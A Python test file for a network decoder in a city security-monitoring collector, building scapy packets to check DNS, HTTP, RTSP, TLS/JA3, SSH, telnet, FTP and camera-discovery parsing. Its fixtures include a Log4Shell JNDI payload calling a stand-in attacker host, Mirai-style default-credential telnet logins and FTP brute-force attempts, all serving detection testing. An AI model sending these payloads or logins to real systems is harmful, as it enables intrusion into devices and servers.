"""Application decoders on packets built with scapy and written to a real pcap file.

scapy builds the test input (its builders are slow but exact); the code under test
reads the file back raw. One combined capture is also compared with a golden file.
"""
from __future__ import annotations

import datetime
import hashlib
import json
import os
import ssl
import struct
from pathlib import Path

import pytest
from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import CookedLinux, Dot1Q, Ether, Loopback
from scapy.packet import Raw
from scapy.utils import wrpcap

from collectors.network import NetworkDecoder, pcap_events

GOLDEN = Path(__file__).parent / "golden" / "net"
T0 = 1_764_000_000.0  # fixed capture time so golden output is stable
CAM, NVR, VMS, EVIL = "10.20.1.15", "10.20.0.2", "10.20.0.10", "203.0.113.66"


def _eth() -> Ether:
    return Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")


def _tcp_session(cli: str, srv: str, cport: int, sport: int, exchange: list[tuple[str, bytes]], t: float,
                 *, close: str = "fin") -> list:
    """A full TCP conversation: handshake, payloads in ``exchange`` order ("c" client, "s" server), FIN/FIN or RST."""
    pk = []
    cs, ss = 1000, 5000

    def add(p, dt=0.001):
        nonlocal t
        t += dt
        p.time = t
        pk.append(p)

    add(_eth() / IP(src=cli, dst=srv) / TCP(sport=cport, dport=sport, flags="S", seq=cs))
    add(_eth() / IP(src=srv, dst=cli) / TCP(sport=sport, dport=cport, flags="SA", seq=ss, ack=cs + 1))
    cs += 1
    ss += 1
    add(_eth() / IP(src=cli, dst=srv) / TCP(sport=cport, dport=sport, flags="A", seq=cs, ack=ss))
    for side, data in exchange:
        if side == "c":
            add(_eth() / IP(src=cli, dst=srv) / TCP(sport=cport, dport=sport, flags="PA", seq=cs, ack=ss) / Raw(data))
            cs += len(data)
        else:
            add(_eth() / IP(src=srv, dst=cli) / TCP(sport=sport, dport=cport, flags="PA", seq=ss, ack=cs) / Raw(data))
            ss += len(data)
    if close == "rst":
        add(_eth() / IP(src=srv, dst=cli) / TCP(sport=sport, dport=cport, flags="R", seq=ss))
    elif close == "fin":
        add(_eth() / IP(src=cli, dst=srv) / TCP(sport=cport, dport=sport, flags="FA", seq=cs, ack=ss))
        add(_eth() / IP(src=srv, dst=cli) / TCP(sport=sport, dport=cport, flags="FA", seq=ss, ack=cs + 1))
        add(_eth() / IP(src=cli, dst=srv) / TCP(sport=cport, dport=sport, flags="A", seq=cs + 1, ack=ss + 1))
    return pk


def _udp(src: str, dst: str, sport: int, dport: int, payload: bytes, t: float):
    p = _eth() / IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / Raw(payload)
    p.time = t
    return p


def _client_hello(server_name: str) -> bytes:
    """A real ClientHello, as OpenSSL writes it (through Python's ssl module, no network)."""
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    return outgoing.read()


def _hand_built_hello() -> bytes:
    """A ClientHello with known fields, to check JA3 against its definition."""
    ciphers = [0x0A0A, 0x1301, 0xC02F]  # 0x0a0a is GREASE: JA3 drops it
    sni = b"cam-gw.hcmc.example"
    exts = b""
    exts += struct.pack("!HH", 0x1A1A, 0)  # GREASE extension
    sni_body = struct.pack("!HBH", len(sni) + 3, 0, len(sni)) + sni
    exts += struct.pack("!HH", 0, len(sni_body)) + sni_body
    groups = struct.pack("!HHH", 4, 29, 23)
    exts += struct.pack("!HH", 10, len(groups)) + groups
    exts += struct.pack("!HH", 11, 2) + b"\x01\x00"
    body = struct.pack("!H", 0x0303) + b"\x11" * 32 + b"\x00"
    body += struct.pack("!H", 2 * len(ciphers)) + b"".join(struct.pack("!H", c) for c in ciphers)
    body += b"\x01\x00" + struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


WSD_PROBE = b"""<?xml version="1.0" encoding="UTF-8"?>
<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing"
 xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" xmlns:dn="http://www.onvif.org/ver10/network/wsdl">
<s:Header><a:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</a:Action>
<a:MessageID>uuid:0a6dc791-2be6-4991-9af1-454778a1917a</a:MessageID>
<a:To>urn:schemas-xmlsoap-org:ws:2005:04:discovery</a:To></s:Header>
<s:Body><d:Probe><d:Types>dn:NetworkVideoTransmitter</d:Types></d:Probe></s:Body></s:Envelope>"""

WSD_MATCH = b"""<?xml version="1.0" encoding="UTF-8"?>
<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://www.w3.org/2003/05/soap-envelope"
 xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"
 xmlns:dn="http://www.onvif.org/ver10/network/wsdl" xmlns:tds="http://www.onvif.org/ver10/device/wsdl">
<SOAP-ENV:Header><wsa:MessageID>uuid:1419d68a-1dd2-11b2-a105-F4A1B2C3D4E5</wsa:MessageID>
<wsa:RelatesTo>uuid:0a6dc791-2be6-4991-9af1-454778a1917a</wsa:RelatesTo>
<wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</wsa:Action></SOAP-ENV:Header>
<SOAP-ENV:Body><d:ProbeMatches><d:ProbeMatch>
<wsa:EndpointReference><wsa:Address>urn:uuid:1419d68a-1dd2-11b2-a105-F4A1B2C3D4E5</wsa:Address></wsa:EndpointReference>
<d:Types>dn:NetworkVideoTransmitter tds:Device</d:Types>
<d:Scopes>onvif://www.onvif.org/type/video_encoder onvif://www.onvif.org/hardware/IPC-HFW2431S onvif://www.onvif.org/name/Cam%20Ben%20Thanh onvif://www.onvif.org/location/district/1</d:Scopes>
<d:XAddrs>http://10.20.1.15/onvif/device_service http://[fd00::15]/onvif/device_service</d:XAddrs>
<d:MetadataVersion>1</d:MetadataVersion></d:ProbeMatch></d:ProbeMatches></SOAP-ENV:Body></SOAP-ENV:Envelope>"""


def _dhip(body: dict) -> bytes:
    js = json.dumps(body).encode() + b"\n"
    return struct.pack("<I4sIIIIII", 32, b"DHIP", 0, 0, len(js), 0, len(js), 0) + js


DHIP_REPLY = {
    "mac": "3c:ef:8c:11:22:33",
    "method": "client.notifyDevInfo",
    "params": {"deviceInfo": {
        "DeviceClass": "NVR", "DeviceType": "DHI-NVR4108HS-8P-4KS2", "HttpPort": 80, "Port": 37777,
        "IPv4Address": {"DefaultGateway": "10.20.0.1", "IPAddress": "10.20.0.2", "SubnetMask": "255.255.255.0"},
        "IPv6Address": {"IPAddress": "fd00::2/64"}, "MachineName": "NVR-Q1", "SerialNo": "6J0ABCD1234567",
        "Vendor": "Dahua", "Version": "4.1.0", "Init": True}},
}


def build_capture(path: Path) -> None:
    t = T0
    pk = []
    # DNS query and answer (camera resolving its NVR's cloud name), an NXDOMAIN
    q = DNS(id=0x1234, rd=1, qd=DNSQR(qname="p2p.nvr.example", qtype="A"))
    a = DNS(id=0x1234, qr=1, rd=1, ra=1, qd=DNSQR(qname="p2p.nvr.example", qtype="A"),
            an=[DNSRR(rrname="p2p.nvr.example", type="CNAME", ttl=60, rdata="edge.nvr.example"),
                DNSRR(rrname="edge.nvr.example", type="A", ttl=60, rdata="198.51.100.7")])
    pk.append(_udp(CAM, "10.20.0.53", 40000, 53, bytes(q), t + 0.001))
    pk.append(_udp("10.20.0.53", CAM, 53, 40000, bytes(a), t + 0.002))
    nx = DNS(id=7, qr=1, rcode=3, qd=DNSQR(qname="exfil.bad.example", qtype="TXT"))
    pk.append(_udp("10.20.0.53", CAM, 53, 40001, bytes(nx), t + 0.003))
    # HTTP: request head split over two segments, response with status
    req = (b"GET /cgi-bin/snapshot.cgi?channel=1 HTTP/1.1\r\nHost: cam-01.hcmc.example:8080\r\n"
           b"User-Agent: ${jndi:ldap://203.0.113.66:1389/a}\r\nX-Api-Version: ${jndi:dns://x}\r\n"
           b"Authorization: Basic YWRtaW46YWRtaW4=\r\nCookie: sid=secret\r\n\r\n")
    pk += _tcp_session(VMS, CAM, 51000, 8080, [("c", req[:40]), ("c", req[40:]), (
        "s", b"HTTP/1.1 401 Unauthorized\r\nServer: Camera\r\nContent-Length: 0\r\n\r\n")], t + 0.1)
    # RTSP with digest auth and a URL carrying credentials
    pk += _tcp_session(VMS, CAM, 51002, 554, [
        ("c", b"DESCRIBE rtsp://admin:hunter2@10.20.1.15:554/cam/realmonitor?channel=1&subtype=0 RTSP/1.0\r\n"
        b"CSeq: 2\r\nUser-Agent: LibVLC/3.0.18\r\nAccept: application/sdp\r\n\r\n"),
        ("s", b'RTSP/1.0 401 Unauthorized\r\nCSeq: 2\r\nWWW-Authenticate: Digest realm="Login", nonce="abc"\r\n\r\n'),
        ("c", b"DESCRIBE rtsp://10.20.1.15:554/cam/realmonitor?channel=1&subtype=0 RTSP/1.0\r\nCSeq: 3\r\n"
        b'Authorization: Digest username="admin", realm="Login", nonce="abc", response="d41d8c"\r\n\r\n'),
        ("s", b"RTSP/1.0 200 OK\r\nCSeq: 3\r\nContent-Type: application/sdp\r\n\r\n")], t + 0.2)
    # TLS: a real OpenSSL ClientHello, split in two segments
    hello = _client_hello("nvr.hcmc.example")
    pk += _tcp_session(CAM, "198.51.100.7", 52000, 443, [("c", hello[:200]), ("c", hello[200:])], t + 0.3, close="rst")
    pk += _tcp_session(CAM, "198.51.100.8", 52001, 8443, [("c", _hand_built_hello())], t + 0.35, close="rst")
    # SSH banners, telnet attempt (Mirai-style), FTP brute force
    pk += _tcp_session(EVIL, NVR, 40022, 22, [("s", b"SSH-2.0-dropbear_2019.78\r\n"), ("c", b"SSH-2.0-libssh_0.9.6\r\n")],
                       t + 0.4)
    pk += _tcp_session(EVIL, CAM, 40023, 23, [("s", b"login: "), ("c", b"root\r\n"), ("c", b"xc3511\r\n")], t + 0.5)
    pk += _tcp_session(EVIL, NVR, 40021, 21, [
        ("s", b"220 NVR FTP ready\r\n"), ("c", b"USER admin\r\n"), ("s", b"331 Password required\r\n"),
        ("c", b"PASS s3cr3t-pass\r\n"), ("s", b"530 Login incorrect.\r\n")], t + 0.6)
    # WS-Discovery probe (multicast) and a camera's ProbeMatches
    pk.append(_udp(VMS, "239.255.255.250", 50000, 3702, WSD_PROBE, t + 0.7))
    pk.append(_udp(CAM, VMS, 3702, 50000, WSD_MATCH, t + 0.701))
    # Dahua DHIP search reply
    pk.append(_udp(NVR, VMS, 37810, 5050, _dhip(DHIP_REPLY), t + 0.8))
    # ICMP echo and reply: one flow
    for i, (s, d, typ) in enumerate(((VMS, CAM, 8), (CAM, VMS, 0))):
        p = _eth() / IP(src=s, dst=d) / ICMP(type=typ, id=1, seq=1)
        p.time = t + 0.9 + i * 0.001
        pk.append(p)
    # IPv6 + VLAN tag UDP (BACnet port, no decoder: flow only)
    p = _eth() / Dot1Q(vlan=20) / IPv6(src="fd00::15", dst="fd00::2") / UDP(sport=47808, dport=47808) / Raw(b"\x81")
    p.time = t + 1.0
    pk.append(p)
    wrpcap(str(path), pk)


@pytest.fixture(scope="module")
def capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("net") / "protocols.pcap"
    build_capture(path)
    return path


@pytest.fixture(scope="module")
def events(capture: Path) -> list[dict]:
    return list(pcap_events(capture))


def _by_action(events: list[dict], action: str) -> list[dict]:
    return [e for e in events if e["event"]["action"] == action]


def test_net_dns_query_and_answers(events: list[dict]) -> None:
    (query,) = list(_by_action(events, "dns_query"))
    assert query["dns"]["question"] == {"name": "p2p.nvr.example", "type": "A", "class": "IN"}
    assert query["source"] == {"ip": CAM, "port": 40000}
    answers = _by_action(events, "dns_answer")
    ok = next(e for e in answers if e["dns"]["id"] == 0x1234)
    assert ok["dns"]["response_code"] == "NOERROR"
    assert ok["dns"]["answers"] == [
        {"name": "p2p.nvr.example", "type": "CNAME", "class": "IN", "ttl": 60, "data": "edge.nvr.example"},
        {"name": "edge.nvr.example", "type": "A", "class": "IN", "ttl": 60, "data": "198.51.100.7"},
    ]
    assert ok["dns"]["resolved_ip"] == ["198.51.100.7"]
    assert ok["source"]["ip"] == CAM, "answers are oriented client -> server like their flow"
    nx = next(e for e in answers if e["dns"]["id"] == 7)
    assert nx["dns"]["response_code"] == "NXDOMAIN" and nx["event"]["outcome"] == "failure"
    assert nx["dns"]["question"]["type"] == "TXT"


def test_net_http_request_over_two_segments_and_response(events: list[dict]) -> None:
    (req,) = _by_action(events, "http_request")
    assert req["http"]["request"]["method"] == "GET"
    assert req["url"]["path"] == "/cgi-bin/snapshot.cgi"
    assert req["url"]["query"] == "channel=1"
    assert req["url"]["domain"] == "cam-01.hcmc.example" and req["url"]["port"] == 8080
    assert req["user_agent"]["original"] == "${jndi:ldap://203.0.113.66:1389/a}"
    headers = req["citysoc"]["network"]["http"]["request_headers"]
    assert headers["x-api-version"] == "${jndi:dns://x}"
    assert headers["authorization"] == "Basic [redacted]" and headers["cookie"] == "[redacted]"
    assert "YWRtaW46YWRtaW4" not in json.dumps(events), "credentials must never reach an event"
    (resp,) = _by_action(events, "http_response")
    assert resp["http"]["response"]["status_code"] == 401 and resp["event"]["outcome"] == "failure"
    assert resp["url"]["path"] == "/cgi-bin/snapshot.cgi"
    assert resp["source"]["ip"] == VMS and resp["destination"]["port"] == 8080


def test_net_rtsp_requests_without_secrets(events: list[dict]) -> None:
    reqs = _by_action(events, "rtsp_request")
    assert [r["citysoc"]["network"]["rtsp"]["method"] for r in reqs] == ["DESCRIBE", "DESCRIBE"]
    first, second = reqs
    assert first["url"]["original"] == "rtsp://10.20.1.15:554/cam/realmonitor?channel=1&subtype=0"
    assert first["url"]["path"] == "/cam/realmonitor" and first["url"]["port"] == 554
    assert first["citysoc"]["network"]["rtsp"]["url_had_credentials"] is True
    assert first["citysoc"]["network"]["rtsp"]["authorization"] == {"present": False}
    assert second["citysoc"]["network"]["rtsp"]["authorization"] == {"present": True, "scheme": "Digest"}
    assert first["user_agent"]["original"] == "LibVLC/3.0.18"
    dump = json.dumps(events)
    assert "hunter2" not in dump and "d41d8c" not in dump
    codes = [r["citysoc"]["network"]["rtsp"]["status_code"] for r in _by_action(events, "rtsp_response")]
    assert codes == [401, 200]
    flow = next(e for e in _by_action(events, "network_flow") if e["destination"]["port"] == 554)
    assert flow["network"]["protocol"] == "rtsp"


def test_net_tls_sni_from_real_client_hello_split_in_two(events: list[dict]) -> None:
    hellos = {e["destination"]["port"]: e for e in _by_action(events, "tls_client_hello")}
    assert hellos[443]["tls"]["client"]["server_name"] == "nvr.hcmc.example"
    assert hellos[443]["tls"]["version"] in ("1.2", "1.3")
    assert len(hellos[443]["tls"]["client"]["ja3"]) == 32


def test_net_tls_ja3_matches_its_definition(events: list[dict]) -> None:
    hello = next(e for e in _by_action(events, "tls_client_hello") if e["destination"]["port"] == 8443)
    assert hello["tls"]["client"]["server_name"] == "cam-gw.hcmc.example"
    # version, ciphers, extensions, curves, point formats; GREASE values removed
    expected = hashlib.md5(b"771,4865-49199,0-10-11,29-23,0").hexdigest()
    assert hello["tls"]["client"]["ja3"] == expected


def test_net_remote_access_attempts(events: list[dict]) -> None:
    attempts = {e["network"]["protocol"]: e for e in _by_action(events, "connection_attempt")}
    assert set(attempts) == {"ssh", "telnet", "ftp"}
    assert attempts["telnet"]["source"]["ip"] == EVIL and attempts["telnet"]["destination"]["port"] == 23
    banners = {e["citysoc"]["network"]["ssh"]["role"]: e["citysoc"]["network"]["ssh"]["banner"]
               for e in _by_action(events, "ssh_banner")}
    assert banners == {"client": "SSH-2.0-libssh_0.9.6", "server": "SSH-2.0-dropbear_2019.78"}
    (user,) = _by_action(events, "ftp_user")
    assert user["user"]["name"] == "admin"
    (login,) = _by_action(events, "ftp_login")
    assert login["event"]["outcome"] == "failure" and login["user"]["name"] == "admin"
    assert "s3cr3t-pass" not in json.dumps(events), "FTP passwords are never stored"


def test_net_ws_discovery_probe_and_matches(events: list[dict]) -> None:
    (probe,) = _by_action(events, "ws_discovery_probe")
    assert probe["citysoc"]["network"]["wsd"]["types"] == ["dn:NetworkVideoTransmitter"]
    assert probe["destination"]["ip"] == "239.255.255.250"
    (match,) = _by_action(events, "ws_discovery_probe_matches")
    wsd = match["citysoc"]["network"]["wsd"]
    assert wsd["xaddrs"] == ["http://10.20.1.15/onvif/device_service", "http://[fd00::15]/onvif/device_service"]
    assert wsd["types"] == ["dn:NetworkVideoTransmitter", "tds:Device"]
    assert wsd["relates_to"] == "uuid:0a6dc791-2be6-4991-9af1-454778a1917a"
    onvif = match["citysoc"]["network"]["onvif"]
    assert onvif["hardware"] == "IPC-HFW2431S" and onvif["name"] == "Cam Ben Thanh"


def test_net_dahua_dhip_device_info(events: list[dict]) -> None:
    (ev,) = _by_action(events, "dahua_discovery")
    d = ev["citysoc"]["network"]["dahua"]
    assert d["method"] == "client.notifyDevInfo"
    assert d["device_type"] == "DHI-NVR4108HS-8P-4KS2" and d["serial_number"] == "6J0ABCD1234567"
    assert d["ipv4"] == "10.20.0.2" and d["ipv6"] == "fd00::2" and d["port"] == 37777
    assert d["mac"] == "3c:ef:8c:11:22:33"
    assert ev["network"]["protocol"] == "dhip"
    # The device replied from 37810: it is the server, the searcher the client.
    assert ev["destination"] == {"ip": NVR, "port": 37810}


def test_net_flows_counts_flags_and_community_id(events: list[dict]) -> None:
    flows = _by_action(events, "network_flow")
    http = next(e for e in flows if e["destination"]["port"] == 8080)
    # The last ACK after both FINs arrives once the flow is reported: counted as a late packet.
    assert http["source"]["packets"] == 5 and http["destination"]["packets"] == 3
    assert http["network"]["packets"] == 8
    assert http["citysoc"]["network"]["tcp_flags"] == ["SYN", "ACK", "FIN", "PSH"]
    assert http["citysoc"]["network"]["flow_end_reason"] == "fin"
    start, end = (datetime.datetime.fromisoformat(http["event"][k].replace("Z", "+00:00")) for k in ("start", "end"))
    assert http["event"]["duration"] == (end - start) // datetime.timedelta(microseconds=1) * 1000
    assert 6_900_000 <= http["event"]["duration"] <= 7_100_000  # 8 packets 1 ms apart
    tls = next(e for e in flows if e["destination"]["port"] == 443)
    assert tls["citysoc"]["network"]["flow_end_reason"] == "rst"
    icmp = [e for e in flows if e["network"]["transport"] == "icmp"]
    assert len(icmp) == 1 and icmp[0]["network"]["packets"] == 2 and icmp[0]["source"]["ip"] == VMS
    v6 = next(e for e in flows if e["network"]["type"] == "ipv6")
    assert v6["network"]["protocol"] == "bacnet" and v6["source"]["ip"] == "fd00::15"
    ids = {e["network"]["community_id"] for e in events if e["destination"].get("port") == 8080}
    assert len(ids) == 1, "a flow and its app events share one community id"


def test_net_protocols_golden(events: list[dict]) -> None:
    golden = GOLDEN / "protocols.json"
    got = json.loads(json.dumps(events))
    tls_real = [e for e in got if e["event"]["action"] == "tls_client_hello" and e["destination"]["port"] == 443]
    for e in tls_real:  # OpenSSL's offer changes with the library version; checked above instead
        e["tls"]["client"]["ja3"] = "<openssl>"
        e["tls"]["version"] = "<openssl>"
    for e in got:
        if e["event"]["action"] == "network_flow" and e["destination"].get("port") == 443:
            for k in ("bytes",):  # the hello's size varies with the OpenSSL version too
                e["source"][k] = e["network"][k] = "<openssl>"
    if os.environ.get("CITYSOC_REGEN_GOLDEN"):
        golden.write_text(json.dumps(got, indent=1, sort_keys=True) + "\n")
    assert got == json.loads(golden.read_text())


@pytest.mark.parametrize("linktype,frame", [
    (113, bytes(CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6, proto=0x0800) / IP(src="10.0.0.1", dst="10.0.0.2")
                / UDP(sport=1234, dport=47808))),
    (101, bytes(IP(src="10.0.0.1", dst="10.0.0.2") / UDP(sport=1234, dport=47808))),
    (0, bytes(Loopback(type=2) / IP(src="10.0.0.1", dst="10.0.0.2") / UDP(sport=1234, dport=47808))),
    (276, struct.pack("!HHIHBB8s", 0x0800, 0, 2, 1, 0, 6, b"\x00" * 8)
     + bytes(IP(src="10.0.0.1", dst="10.0.0.2") / UDP(sport=1234, dport=47808))),
])
def test_net_link_types(linktype: int, frame: bytes) -> None:
    dec = NetworkDecoder()
    assert dec.feed(T0, linktype, frame) == []
    (flow,) = dec.flush()
    assert (flow["source"]["ip"], flow["destination"]["ip"]) == ("10.0.0.1", "10.0.0.2")
    assert flow["destination"]["port"] == 47808 and flow["network"]["bytes"] == 28


def test_net_ethernet_padding_is_not_payload() -> None:
    """A 60-byte Ethernet frame padded after a 40-byte TCP/IP packet: the padding is ignored."""
    frame = bytes(_eth() / IP(src="10.0.0.1", dst="10.0.0.2") / TCP(sport=5000, dport=80, flags="A")) + b"GET " * 2
    dec = NetworkDecoder()
    dec.feed(T0, 1, frame)
    (flow,) = dec.flush()
    assert flow["network"]["bytes"] == 40
    assert flow["network"]["protocol"] == "http" and dec.counters()["app_events"] == 0


def test_net_tls_alpn_offer_and_incomplete_hello() -> None:
    from collectors.network.tls import client_hello_complete, parse_client_hello

    ctx = ssl.create_default_context()
    ctx.set_alpn_protocols(["h2", "http/1.1"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname="vms.hcmc.example")
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    hello = outgoing.read()
    assert not client_hello_complete(hello[:100]) and client_hello_complete(hello)
    fields = parse_client_hello(hello)
    assert fields["tls"]["client"]["server_name"] == "vms.hcmc.example"
    assert fields["citysoc"]["network"]["tls"]["alpn"] == ["h2", "http/1.1"]


def test_net_dhip_body_that_is_not_utf8() -> None:
    from collectors.network.dahua import parse_dhip

    body = b'{"method":"client.notifyDevInfo","params":{"deviceInfo":{"MachineName":"\xc9\xe3","DeviceType":"X"}}}'
    fields = parse_dhip(struct.pack("<I4sIIIIII", 32, b"DHIP", 0, 0, len(body), 0, len(body), 0) + body)
    assert fields["device_type"] == "X" and fields["machine_name"] == "\ufffd\ufffd"
